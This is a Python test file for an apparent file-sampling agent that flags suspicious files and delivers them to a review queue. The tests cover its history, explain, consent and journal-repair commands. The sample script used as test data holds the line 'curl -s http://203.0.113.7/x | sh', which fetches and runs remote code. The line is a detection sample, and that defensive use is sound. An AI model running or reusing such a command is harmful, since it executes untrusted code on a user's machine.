"""What was sent about this file, why, and how do I stop it: asked at a shell, of a whole agent and queue."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest

from sampler.cli.demo_lab import Lab
from sampler.intake import AgentClient
from sampler.model import Reason, Sampling
from sampler.wire.agent_messages import FlagRequest
from sampler.worker import PeopleClient
from tests.support.commands import Said, run

SCRIPT = b"#!/bin/sh\n# something to look at\ncurl -s http://203.0.113.7/x | sh\n"


@pytest.fixture
def options(lab: Lab) -> tuple[str, ...]:
    return ("--config", str(lab.agent_config))


def entries(said: Said) -> list[dict[str, Any]]:
    assert said.code == 0, said.err
    return [json.loads(line) for line in said.out.splitlines()]


@pytest.fixture
async def script(folder: Path) -> Path:
    file = folder / "job.sh"
    file.write_bytes(SCRIPT)
    return file


@pytest.fixture
async def delivered(lab: Lab, agent: AgentClient, until: Any, script: Path) -> str:
    """The script, flagged, delivered whole, and its identifier."""
    request = FlagRequest(path=str(script), reason=Reason.DETECTION.value, wants=Sampling.WHOLE)
    view = await agent.flag(request)
    await until(view.id, lambda seen: seen.state == "delivered")
    return view.id


async def test_three_commands_answer_the_owner(options: tuple[str, ...], delivered: str, script: Path) -> None:
    """history by the file finds the object; explain says each field, why, under whose consent, and how to stop it."""
    found = await run("history", str(script), *options)
    assert delivered in found.out
    assert "by its bytes as they are now" in found.err
    assert "by the agent's ledger, as flagged under its name: 1 object" in found.err
    said = await run("explain", delivered, *options)
    assert said.code == 0, said.err
    for expected in (
        "FIELDS, scope metadata, let through by P9 fields",
        "job.sh",
        "whole object, 67 bytes",
        "scope whole, policy safe, kind script",
        "AGREED TO\n  demo, at ",
        "delivered\n      delivered; the queue has verified all 1 contents",
        f"sampler recall {delivered}",
        "sampler consent withdraw --scope whole",
    ):
        assert expected in said.out
    assert max(map(len, said.out.splitlines() + found.out.splitlines())) <= 80
    text = await run("explain", delivered, "--text", *options)
    assert text.out.startswith("# ")


async def test_what_is_explained_is_what_the_queue_got(
    lab: Lab, options: tuple[str, ...], delivered: str, people: PeopleClient
) -> None:
    """The fields of explain are those of the task, value for value, each with the rule that let it through."""
    (explained,) = entries(await run("explain", delivered, "--json", *options))
    (task,) = [task for task in (await people.tasks()).tasks if task.submission == delivered]
    assert {field["name"]: field["value"] for field in explained["fields"]} == task.fields
    assert all(field["why"].startswith("P9 fields: scope ") for field in explained["fields"])
    assert [content["sha256"] for content in explained["contents"]] == [content.sha256 for content in task.contents]


async def test_a_file_that_changed_is_found_by_its_name(
    lab: Lab, options: tuple[str, ...], delivered: str, script: Path
) -> None:
    """Other bytes under the same name: the agent's ledger knows it; without an agent the bytes alone are asked for."""
    script.write_bytes(b"something else")
    assert delivered in (await run("history", str(script), *options)).out
    script.unlink()
    assert delivered in (await run("history", str(script), *options)).out
    script.write_bytes(SCRIPT)
    await lab.kill("agent")
    alone = await run("history", str(script), *options)
    assert delivered in alone.out
    assert "no agent answers" in alone.err
    script.unlink()
    neither = await run("history", str(script), *options)
    assert neither.code != 0
    assert "name the object's ID or SHA-256" in neither.err


async def test_the_journal_can_be_checked_and_taken_away_while_the_agent_runs(
    lab: Lab, options: tuple[str, ...], delivered: str, folder: Path
) -> None:
    """verify, export as it is stored, and a page that names the object, without stopping anything."""
    assert (await run("history", "verify", *options)).code == 0
    exported = await run("history", "export", *options)
    stored = b"".join(path.read_bytes() for path in sorted((lab.folder / "agent" / "journal").glob("*.jsonl")))
    assert stored.startswith(exported.out.encode())
    page = folder / "page.html"
    assert (await run("history", "export", "--format", "html", "-o", str(page), *options)).code == 0
    assert delivered in page.read_text()


async def test_a_damaged_journal_stops_sending_until_it_is_set_aside(
    lab: Lab, options: tuple[str, ...], delivered: str
) -> None:
    """verify says where and how to repair; not while an agent runs; afterwards the agent starts and sends again."""
    journal = lab.folder / "agent" / "journal" / "journal.jsonl"
    assert "stop that one first" in (await run("history", "repair", *options)).err
    await lab.kill("agent")
    journal.write_bytes(journal.read_bytes().replace(b'"delivered"', b'"Delivered"', 1))
    checked = await run("history", "verify", *options)
    assert checked.code == 1
    assert "journal.jsonl, line " in checked.err
    assert "sampler history repair" in checked.err
    refused = await run("agent", "run", *options)
    assert refused.code == 2
    assert "nothing is sent" in refused.err
    repaired = await run("history", "repair", *options)
    assert repaired.code == 0, repaired.err
    aside = next(journal.parent.glob("damaged-*"))
    assert (await run("history", "verify", "--from", str(aside), *options)).code == 1
    (entry,) = entries(await run("history", "--json", *options))
    assert entry["kind"] == "repaired"
    await lab.start_agent()
    async with AgentClient(lab.socket) as again:
        assert (await again.flag(FlagRequest(path="/etc/hostname"))).state == "spooled"
    assert (await run("history", "verify", *options)).code == 0
